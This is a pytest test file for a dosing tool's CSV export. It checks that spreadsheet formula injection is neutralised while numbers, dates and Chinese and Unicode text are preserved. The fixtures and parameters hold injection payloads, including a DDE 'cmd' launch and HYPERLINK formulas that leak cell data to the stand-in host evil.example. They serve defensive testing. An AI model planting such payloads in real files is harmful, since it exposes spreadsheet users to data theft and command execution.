"""Spreadsheet safety: CSV cells a spreadsheet would run are neutralised, numbers and dates are
not, and non-ASCII text (×10⁶, µg, Chinese site names) survives a round trip."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from dosing.cli import main
from dosing.io.write.csv import neutralise, safe_cell, safe_frame, write_csv
from tests.seed_variants import private_config  # noqa: F401  (autouse: keeps $XDG_CONFIG_HOME private)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ('=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("+", "'+"),
        ("-inf", "'-inf"),
        # numbers stay numbers
        ("-5", "-5"),
        ("+5", "+5"),
        ("-7.5", "-7.5"),
        ("-.5", "-.5"),
        ("1e6", "1e6"),
        ("-1e6", "-1e6"),
        ("+2.5E-3", "+2.5E-3"),
        ("1000000", "1000000"),
        # dates, times and ordinary text are untouched
        ("2027-01-04", "2027-01-04"),
        ("09:00", "09:00"),
        ("Methotrexate", "Methotrexate"),
        ("a=b", "a=b"),
        ("hrIL-2 or placebo", "hrIL-2 or placebo"),
        ("1×10⁶ IU", "1×10⁶ IU"),
        ("", ""),
    ],
)
def test_neutralise(text: str, written: str) -> None:
    assert neutralise(text) == written


def test_safe_frame_leaves_numbers_and_dates_alone() -> None:
    frame = pd.DataFrame(
        {
            "dose": [-5.0, 1e6],
            "count": [-1, 2],
            "date": pd.Categorical(["2027-01-04", "2027-01-05"]),
            "note": ["=1+1", "-5"],
            "label": pd.Categorical(["@x", "plain"]),
        }
    )
    safe = safe_frame(frame)
    assert safe["dose"].tolist() == [-5.0, 1e6] and safe["dose"].dtype == float
    assert safe["count"].tolist() == [-1, 2]
    assert safe["date"].astype(str).tolist() == ["2027-01-04", "2027-01-05"]
    assert safe["note"].tolist() == ["'=1+1", "-5"]
    assert safe["label"].astype(str).tolist() == ["'@x", "plain"]
    assert frame["note"].tolist() == ["=1+1", "-5"]  # the input is not changed


def test_carriage_return_inside_a_cell_cannot_split_the_row(tmp_path: Path) -> None:
    frame = pd.DataFrame({"site": ["A\rB", "\r=1+1"], "instructions": pd.Categorical(["x\r\ny", "z"])})
    write_csv(frame, tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["site", "instructions"], ["A\nB", "x\ny"], ["'\n=1+1", "z"]]


def test_categories_that_become_equal_when_neutralised() -> None:
    frame = pd.DataFrame({"note": pd.Categorical(["=1", "'=1", "=1"])})
    assert safe_frame(frame)["note"].astype(str).tolist() == ["'=1", "'=1", "'=1"]


def test_write_csv_is_utf8_with_bom_and_plain_line_ends(tmp_path: Path) -> None:
    write_csv(pd.DataFrame({"a": ["µg"], "b": [1.5]}), tmp_path / "x.csv")
    raw = (tmp_path / "x.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw == "\ufeffa,b\nµg,1.5\n".encode()


PROTOCOL = """
[study]
id = "SHEET"
title = "Spreadsheet safety"
blinding = "open"
timezone = "Asia/Shanghai"
last_day = 3

[patient_values]
note = { type = "text", required = false }

[[arms]]
id = "a"
label = "Arm A"
regimens = ["x", "y"]

[[regimens]]
id = "x"
drug = "Interleukin-2 ×10⁶"
dose = { amount = 1, unit = "MIU" }   # a unit must be a known one (dosing/protocol/units.py)
route = "subcutaneous"
times = ["09:00"]
instructions = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for instructions")'
schedule = { daily = true }

[[regimens]]
id = "y"
drug = "维生素 B12"
dose = { amount = 500, unit = "µg" }
route = "oral"
times = ["20:00"]
instructions = "饭后服用 (after meals)"
schedule = { daily = true }
"""

COHORT = """patient_id,arm,start_date,timezone,site,note
P-1,a,2027-01-04,Asia/Shanghai,北京大学人民医院,
P-2,a,2027-01-04,Asia/Shanghai,"=HYPERLINK(""http://evil.example"",""x"")",
P-3,a,2027-01-04,Asia/Shanghai,+cmd|' /C calc'!A0,
P-4,a,2027-01-04,Asia/Shanghai,@SUM(1+1),
"""


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sheet")
    (folder / "p.toml").write_text(PROTOCOL, encoding="utf-8")
    (folder / "c.csv").write_text(COHORT, encoding="utf-8")
    args = ["generate", str(folder / "p.toml"), "--cohort", str(folder / "c.csv"), "--out", str(folder / "out")]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    return folder / "out" / "sheet"


def read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)


def test_formula_in_site_and_instructions_is_neutralised_in_worklist(outputs: Path) -> None:
    sheet = read(outputs / "worklist.csv")
    sites = dict(zip(sheet["patient_id"], sheet["site"], strict=False))
    assert sites["P-2"] == '\'=HYPERLINK("http://evil.example","x")'
    assert sites["P-3"] == "'+cmd|' /C calc'!A0"
    assert sites["P-4"] == "'@SUM(1+1)"
    assert sites["P-1"] == "北京大学人民医院"
    x = sheet[sheet["drug"] == "Interleukin-2 ×10⁶"]
    assert set(x["instructions"]) == {'\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for instructions")'}


def test_no_cell_of_any_csv_would_run_in_a_spreadsheet(outputs: Path) -> None:
    """Every CSV that generate writes (also those added later), read as a spreadsheet would."""
    written = sorted(outputs.rglob("*.csv"))
    assert {"doses.csv", "worklist.csv", "patients/P-2/doses.csv"} <= {str(p.relative_to(outputs)) for p in written}
    for path in written:
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), path
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert cell == safe_cell(cell), (path, cell)


@pytest.mark.parametrize("name", ["doses.csv", "worklist.csv"])
def test_non_ascii_round_trips(outputs: Path, name: str) -> None:
    table = read(outputs / name)
    assert (outputs / name).read_bytes().startswith(b"\xef\xbb\xbf")
    assert {"Interleukin-2 ×10⁶", "维生素 B12"} == set(table["drug"])
    assert {"MIU", "µg"} == set(table["unit"])
    assert "饭后服用 (after meals)" in set(table["instructions"])
    if name == "worklist.csv":
        assert "北京大学人民医院" in set(table["site"])


def test_numbers_and_dates_are_written_as_numbers_and_dates(outputs: Path) -> None:
    table = read(outputs / "doses.csv")
    assert set(table["dose"]) == {"1", "500"}
    assert table["date"].tolist()[:2] == ["2027-01-04", "2027-01-04"]
    assert set(table["time"]) == {"09:00", "20:00"}
    assert table["study_day"].tolist()[:2] == ["1", "1"]
